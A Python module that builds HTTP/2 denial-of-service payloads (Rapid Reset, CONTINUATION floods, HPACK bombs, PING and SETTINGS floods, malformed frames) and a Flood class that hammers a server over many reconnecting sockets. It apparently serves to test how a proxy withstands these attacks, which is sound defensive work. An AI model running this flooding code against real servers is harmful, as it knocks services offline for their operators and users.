"""Clients of HTTP/2 that do what costs a server more than it costs them, as fast as they can.

What they send is made beforehand and goes out in large pieces, so that this process hardly counts beside the proxy.
"""

import contextlib
import selectors
import socket
import threading

from . import h2_bytes as h2
from .attacks import network

# The shortest request there is: three indexes, and a name.
ASK = h2.indexed(2) + h2.indexed(6) + h2.indexed(4) + h2.literal(1, "h")
UPLOAD = h2.indexed(3) + h2.indexed(6) + h2.literal(4, "/hang") + h2.literal(1, "h")
OPENING = h2.PREFACE + h2.settings()
_STREAMS = range(1, 20001, 2)
_TIMES = 10000


def _streams(make):
    return b"".join(make(stream) for stream in _STREAMS)


def get(stream):
    return h2.headers(stream, ASK, True)


def post(stream):
    return h2.headers(stream, UPLOAD)


def _bomb(stream, times):
    """A head that is small and stands for much: one large field of the table, again and again."""
    first = h2.literal("x", "v" * 3900, h2.INDEXED) if stream == 1 else b""
    return h2.split_headers(stream, ASK + first + h2.indexed(62) * times, True)


# What is sent behind the preface and SETTINGS.
RAPID_RESET = _streams(lambda stream: get(stream) + h2.rst_stream(stream))
MADE_RESETS = {
    "a window opened by 0": _streams(lambda stream: post(stream) + h2.window_update(stream, 0)),
    "a window opened too far": _streams(lambda stream: post(stream) + h2.window_update(stream, h2.LARGEST)),
    "payload behind the end": _streams(lambda stream: get(stream) + h2.data(stream, b"x")),
    "a head behind the end": _streams(lambda stream: get(stream) + get(stream)),
    "a priority of a wrong length": _streams(lambda stream: post(stream) + h2.frame(h2.PRIORITY, 0, stream, b"\0")),
    "a priority on itself": _streams(lambda stream: post(stream) + h2.priority(stream, on=stream)),
    "a malformed head": _streams(lambda stream: h2.headers(stream, ASK + h2.literal("X", ""), True)),
    "a length that is not kept": _streams(lambda stream: h2.headers(stream, ASK + h2.literal(28, "1"), True)),
}
CONTINUATION = h2.headers(1, ASK, True, whole=False) + h2.continuation(1, h2.literal("x", "y"), False) * _TIMES
EMPTY_CONTINUATION = h2.headers(1, ASK, True, whole=False) + h2.continuation(1, b"", False) * _TIMES
PING = h2.ping() * _TIMES
SETTINGS = h2.settings({h2.INITIAL_WINDOW_SIZE: 1}) * _TIMES
PRIORITY = _streams(h2.priority)
PRIORITY_UPDATE = _streams(h2.priority_update)
WINDOW_UPDATE = h2.window_update(0, 1) * _TIMES
EMPTY_DATA = post(1) + h2.data(1) * _TIMES
PADDING = post(1) + h2.data(1, b"", pad=0) * _TIMES
# 60 MiB each, and 120 KiB each: that is beyond what a head may be, and not beyond all measure.
HPACK_BOMB = b"".join(_bomb(stream, 15000) for stream in range(1, 101, 2))
HPACK_EXCESS = _streams(lambda stream: _bomb(stream, 30))
UNKNOWN = h2.frame(0xbb) * _TIMES


class Flood:
    """So many connections that send the same without end: who is cut off comes again. Goes on while the block runs.

    `tells`: how each connection ended: the code of GOAWAY, or None where none was seen. `sent`: bytes of all of them.
    """

    def __init__(self, address, count, flood, reads=True):
        self._address, self._flood, self._reads = address, memoryview(flood), reads
        self.tells, self.sent = [], 0
        self._over = threading.Event()
        self._selector = selectors.DefaultSelector()
        self._numbers = range(count)
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        for number in self._numbers:
            self._open(number)
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._over.set()
        self._thread.join()
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()
        self._selector.close()

    def calmed(self):
        return self.tells.count(h2.ENHANCE_YOUR_CALM)

    def _open(self, number):
        sock = socket.socket()
        sock.bind((network(number % 100), 0))
        try:
            sock.connect(self._address)
            sock.send(OPENING)
        except OSError:
            sock.close()
            return
        sock.setblocking(False)
        self._selector.register(sock, selectors.EVENT_WRITE | (selectors.EVENT_READ if self._reads else 0), [number, 0, b""])

    def _run(self):
        while not self._over.is_set():
            if len(self._selector.get_map()) < len(self._numbers):
                present = {key.data[0] for key in self._selector.get_map().values()}
                self._open(next(number for number in self._numbers if number not in present))
            for key, events in self._selector.select(0.05):
                if (events & selectors.EVENT_READ and not self._read(key)) or not self._write(key):
                    self._end(key)

    def _write(self, key):
        """False: the connection is broken."""
        state = key.data
        if state[1] == len(self._flood):
            self._selector.modify(key.fileobj, selectors.EVENT_READ, state)
            return True
        try:
            sent = key.fileobj.send(self._flood[state[1]:state[1] + 65536])
        except BlockingIOError:
            return True
        except OSError:
            self._read(key)  # what it was told before
            return False
        state[1] += sent
        self.sent += sent
        return True

    @staticmethod
    def _read(key):
        with contextlib.suppress(BlockingIOError):
            try:
                while piece := key.fileobj.recv(65536):
                    key.data[2] = (key.data[2] + piece)[-200:]
                return False
            except BlockingIOError:
                return True
            except OSError:
                return False
        return True

    def _end(self, key):
        # GOAWAY is the last that is said.
        at = key.data[2].rfind(b"\x07\0\0\0\0\0")
        code = key.data[2][at + 10:at + 14]
        self.tells.append(int.from_bytes(code, "big") if at >= 0 and len(code) == 4 else None)
        self._selector.unregister(key.fileobj)
        key.fileobj.close()
